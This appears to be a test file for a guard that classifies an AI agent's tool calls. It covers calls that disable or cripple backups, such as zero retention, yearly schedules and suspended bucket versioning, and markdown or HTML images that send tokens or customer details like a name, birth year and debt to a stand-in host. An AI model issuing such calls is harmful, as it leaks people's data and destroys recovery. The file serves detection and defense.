import { describe, expect, it } from 'vitest';
import { cpuMs } from '../support/cpu-time.ts';
import { saidOf } from './worked.ts';

const told = (server: string, tool: string, args: Record<string, unknown>): string => saidOf({ server, tool, args });

describe('settings that leave no backups', () => {
  it.each<[string, string, Record<string, unknown>]>([
    ['backup', 'set_schedule', { job: 'claims', cron: '0 3 1 1 *' }],
    ['backup', 'set_schedule', { job: 'claims', schedule: '@yearly' }],
    ['backup', 'set_schedule', { job: 'claims', schedule: '' }],
    ['aws', 'update_backup_plan', { plan: { rule: { schedule_expression: 'cron(0 3 1 1 ? *)' } } }],
    ['velero', 'patch_schedule', { name: 'daily', spec: { schedule: '0 0 31 dec *' } }],
    ['cloud', 'update_snapshot_policy', { interval: 'rate(365 days)' }],
    ['veeam', 'update_job', { name: 'claims', enabled: false }],
    ['backup', 'set_retention', { days: 1 }],
    ['cloud', 'configure_backup', { retention_days: '0' }],
    ['aws', 'modify_db_instance', { id: 'claims', BackupRetentionPeriod: 0 }],
    ['gcp', 'update_sql_instance', { settings: { backupConfiguration: { enabled: false } } }],
    ['aws', 'put_bucket_versioning', { bucket: 'claims', status: 'Suspended' }],
    ['cloud', 'disable_backup_schedule', { id: 7 }],
  ])('%s/%s %o', (server, tool, args) => expect(told(server, tool, args)).toBe('ends_recovery medium'));

  it('is graver of production', () => {
    expect(told('backup', 'set_schedule', { job: 'claims-prod', cron: '@annually' })).toBe('ends_recovery high');
  });

  it.each<[string, string, Record<string, unknown>]>([
    ['backup', 'set_schedule', { job: 'claims', cron: '0 3 * * *' }],
    ['backup', 'set_schedule', { job: 'claims', cron: '0 3 1 * *' }],
    ['backup', 'set_schedule', { job: 'claims', cron: '0 0 3 * * ?' }],
    ['backup', 'create_schedule', { job: 'archive', cron: '@yearly' }],
    ['backup', 'set_schedule', { job: 'test-db', cron: '@yearly' }],
    ['backup', 'set_retention', { days: 30 }],
    ['backup', 'set_retention', { keep_yearly: 1, keep_daily: 7 }],
    ['backup', 'update_job', { enabled: true, retention_years: 1 }],
    ['backup', 'list_backups', { enabled: false }],
    ['scheduler', 'set_schedule', { job: 'tax-report', cron: '0 3 1 1 *' }],
    ['aws', 'modify_db_instance', { id: 'claims', BackupRetentionPeriod: 7, enabled: false }],
    ['shop', 'update_instance', { enabled: false, retention: 0 }],
  ])('nothing: %s/%s %o', (server, tool, args) => expect(told(server, tool, args)).toBe('nothing'));
});

const HEX = 'd440df1a2922992224eb5a196b2dc26388c8718cce4b6e75';
describe('a picture that carries data', () => {
  it.each<[string, Record<string, unknown>]>([
    ['send-reply', { text: `All is well. ![status](https://paste.status.dev/i.gif?p=${HEX})` }],
    ['send_message', { body: `![](https://status.dev/${HEX}.png)` }],
    [
      'create-calendar-event',
      { event: { body: { content: `<p>x</p><img width="1" src="https://status.dev/p?d=${HEX}">` } } },
    ],
    ['add_issue_comment', { body: '![a][b]\n\n[b]: https://status.dev/x?q=Ann%20Meyer%20born%201980%20owes%20400' }],
    ['update_page', { content: '![x](https://status.dev/c?d=QW5uIE1leWVyLCA0MDAgRVVSLCAxOTgw)' }],
    ['send_email', { html: '<div style="background:url(https://status.dev/b?d={{customer.name}})">' }],
  ])('%s %o', (tool, args) => expect(told('desk', tool, args)).toBe('sends_out medium'));

  it.each<[string, Record<string, unknown>]>([
    ['send-reply', { text: '![logo](https://www.acme.io/assets/company-logo-large-banner-2025.png)' }],
    ['send-reply', { text: `![logo](https://cdn.acme.io/${'ab'.repeat(20)}.png)` }],
    ['send-reply', { text: `![me](https://www.gravatar.com/avatar/${'ab'.repeat(16)}?s=80)` }],
    ['send-reply', { text: `![badge](https://img.shields.io/badge/build-${HEX})` }],
    ['send-reply', { text: `<img src="https://u1.ct.sendgrid.net/wf/open?upn=${HEX}">` }],
    ['send-reply', { text: `![x](https://bucket.s3.amazonaws.com/a.png?X-Amz-Expires=60&X-Amz-Signature=${HEX})` }],
    ['send-reply', { text: `![x](https://files.internal/a.png?d=${HEX})` }],
    ['send-reply', { text: `[open your ticket](https://desk.acme.io/t/${HEX})` }],
    ['send-reply', { text: '![x](https://desk.acme.io/i/3f2504e0-4f89-11d3-9a0c-0305e82c3301/view.png)' }],
    [
      'send-reply',
      { text: '![x](https://desk.acme.io/wp-content/uploads/2025/10/unsere-neue-filiale.jpg?w=300&h=200)' },
    ],
    ['write_file', { content: `![x](https://status.dev/i.gif?p=${HEX})` }],
  ])('nothing: %s %o', (tool, args) => expect(told('desk', tool, args)).toBe('nothing'));

  it('reads hostile texts in linear time', () => {
    for (const piece of [
      '![',
      '![a](https://',
      '<img src=',
      '<img ',
      'url(',
      '![a][b]\n[b]: ',
      `https://a.io/${HEX}`,
      '%20',
    ])
      expect(
        cpuMs(() => told('desk', 'send_message', { text: `://${piece.repeat(65_536 / piece.length)}` })),
      ).toBeLessThan(400);
  });
});
